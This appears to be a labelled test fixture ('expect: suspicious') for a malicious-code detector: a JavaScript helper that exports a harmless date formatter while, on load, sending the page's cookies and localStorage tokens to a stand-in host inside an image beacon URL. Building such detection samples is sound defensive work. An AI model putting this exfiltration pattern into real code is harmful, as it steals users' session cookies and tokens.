// expect: suspicious
// A trojanized front-end helper: the page's cookies and stored tokens go to another site in an image URL.
const data = encodeURIComponent(document.cookie + '|' + JSON.stringify(localStorage));
new Image().src = 'https://cdn-metrics.example/p.gif?d=' + data;
export const formatDate = (d) => d.toISOString();
